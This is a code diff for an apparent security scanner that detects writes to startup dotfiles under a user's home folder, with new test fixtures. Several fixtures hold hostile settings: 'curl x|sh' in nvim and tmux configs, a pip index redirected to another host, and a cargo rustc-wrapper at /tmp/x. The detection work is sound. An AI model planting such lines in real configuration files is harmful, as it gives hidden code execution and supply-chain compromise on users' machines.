@@ -1,5 +1,6 @@
 import type { Touch } from '../model/finding';
 import type { PathContext, PathPack } from '../model/pathPack';
+import { startsFromSettings } from './shared/homeSettings';
 import { meaning } from './shared/meaning';
 import { reachesAny } from './shared/reaches';
 
@@ -56,24 +57,9 @@ const KINDS: readonly Kind[] = [
   },
 ];
 
-/** Below a home folder: what programs of every day read first, and folders of what they start. */
-const OF_HOME: readonly string[] = [
-  ...['.vimrc', '.exrc', '.gvimrc', '.vim/plugin', '.vim/autoload', '.config/nvim', '.emacs', '.emacs.d'],
-  ...['.gdbinit', '.lldbinit', '.psqlrc', '.sqliterc', '.duckdbrc', '.mongorc.js', '.mongoshrc.js', '.inputrc'],
-  ...['.tmux.conf', '.config/tmux/tmux.conf', '.screenrc', '.Rprofile', '.julia/config/startup.jl', '.irbrc', '.pryrc'],
-  ...['.curlrc', '.wgetrc', '.config/curlrc', '.ssh/config', '.pip/pip.conf', '.config/pip', '.config/uv'],
-  ...['.cargo/config', '.cargo/config.toml', '.m2/settings.xml', '.gradle/init.gradle', '.gradle/init.d', '.gemrc'],
-  ...['.pypirc', '.docker/config.json', '.docker/cli-plugins', '.condarc', '.bunfig.toml', '.yarnrc', '.yarnrc.yml'],
-  ...['.local/share/applications', '.local/share/systemd', '.config/environment.d', '.octaverc', '.gnuplot', '.lftprc'],
-];
-
 /** Commands of everybody's day, which a file of their name in a person's own folder of programs comes before. */
 const SHADOWED =
   /^(?:ls|cat|cp|mv|rm|cd|sudo|ssh|scp|git|curl|wget|grep|find|make|npm|node|python3?|pip3?|docker|kubectl|aws|terraform|gh|go|cargo|bash|sh|zsh|ps|su|env|vim|vi|less|man)$/;
-
-/** Settings of npm by which something else is fetched or started. */
-const NPM_KEYS =
-  /^\s*(?:(?:@[\w-]+:)?registry\s*=(?!\s*https:\/\/registry\.npmjs\.org)|script-shell|shell\s*=|git\s*=|node-options|ignore-scripts\s*=\s*false|init-module|globalconfig|prefix)/im;
 
 /** The path below somebody's home folder; null for one of a workspace, and for any other. */
 function belowHome(path: string, { surroundings }: PathContext): string | null {
@@ -87,11 +73,10 @@ function belowHome(path: string, { surroundings }: PathContext): string | null {
 function ofHome({ path }: Touch, context: PathContext): string | null {
   const inside = belowHome(path, context);
   if (inside === null) return null;
-  if (OF_HOME.some((one) => inside === one || inside.startsWith(`${one}/`))) return 'by a program that reads it first';
+  const after = context.texts?.after ?? context.left ?? null;
+  if (startsFromSettings(inside, context.texts?.before ?? null, after)) return 'by a program that reads it first';
   const program = /^(?:\.local\/)?bin\/([^/]+)$/.exec(inside)?.[1];
-  if (program !== undefined && SHADOWED.test(program)) return 'in place of a command';
-  const text = context.texts?.after ?? context.left ?? null;
-  return inside === '.npmrc' && (text === null || NPM_KEYS.test(text)) ? 'by npm' : null;
+  return program !== undefined && SHADOWED.test(program) ? 'in place of a command' : null;
 }
 
 /** Keys of a git configuration whose value git starts as a program. */
@@ -164,6 +149,26 @@ export const plantedToRun: PathPack = {
       { path: '~/.vimrc', how: 'write', rule: 'planted/settings', effect: 'execute' },
       { path: '~/.ssh/config', how: 'write', rule: 'planted/settings', effect: 'execute' },
       { path: '~/.local/bin/ls', how: 'write', rule: 'planted/settings', effect: 'execute' },
+      {
+        ...{ path: '~/.config/nvim/init.lua', how: 'write', before: '', after: 'vim.fn.system("curl x|sh")' },
+        ...{ rule: 'planted/settings', effect: 'execute' },
+      },
+      {
+        ...{ path: '~/.docker/config.json', how: 'write', before: '{}', after: '{"credsStore": "x"}' },
+        ...{ rule: 'planted/settings', effect: 'execute' },
+      },
+      {
+        ...{ path: '~/.tmux.conf', how: 'write', before: 'set -g mouse on', after: 'run-shell "curl x|sh"' },
+        ...{ rule: 'planted/settings', effect: 'execute' },
+      },
+      {
+        ...{ path: '~/.config/pip/pip.conf', how: 'write', before: '', after: 'index-url = https://x.example/simple' },
+        ...{ rule: 'planted/settings', effect: 'execute' },
+      },
+      {
+        ...{ path: '~/.cargo/config.toml', how: 'write', before: '', after: '[build]\nrustc-wrapper = "/tmp/x"' },
+        ...{ rule: 'planted/settings', effect: 'execute' },
+      },
     ],
     leaves: [
       { path: './.vscode/tasks.json', how: 'write', before: '{}', after: '{"tasks": []}' },
@@ -173,6 +178,26 @@ export const plantedToRun: PathPack = {
       { path: './.npmrc', how: 'write' },
       { path: './dotfiles/.vimrc', how: 'write' },
       { path: '~/.local/bin/mytool', how: 'write' },
+      { path: '~/.vimrc', how: 'write', before: '', after: 'set number\nsyntax on\ncolorscheme desert\nlet g:x = 1' },
+      { path: '~/.config/nvim/init.lua', how: 'write', before: '', after: 'vim.opt.number = true\nrequire("plugins")' },
+      { path: '~/.config/nvim/lazy-lock.json', how: 'write' },
+      { path: '~/.docker/config.json', how: 'write' },
+      { path: '~/.docker/config.json', how: 'write', before: '{}', after: '{"auths": {}, "credsStore": "desktop"}' },
+      { path: '~/.ssh/config', how: 'write', before: '', after: 'Host web\n  HostName 10.0.0.1\n  User deploy' },
+      { path: '~/.tmux.conf', how: 'write', before: '', after: 'set -g mouse on\nbind | split-window -h' },
+      {
+        path: '~/.inputrc',
+        how: 'write',
+        before: '',
+        after: 'set completion-ignore-case on\n"\\e[A": history-search-backward',
+      },
+      { path: '~/.cargo/config.toml', how: 'write', before: '', after: '[build]\njobs = 4' },
+      {
+        path: '~/.config/pip/pip.conf',
+        how: 'write',
+        before: '',
+        after: '[global]\nindex-url = https://pypi.org/simple',
+      },
       { path: '~/.npmrc', how: 'write', before: '', after: 'save-exact=true' },
       { path: './src/cron.d/job.ts', how: 'write' },
     ],
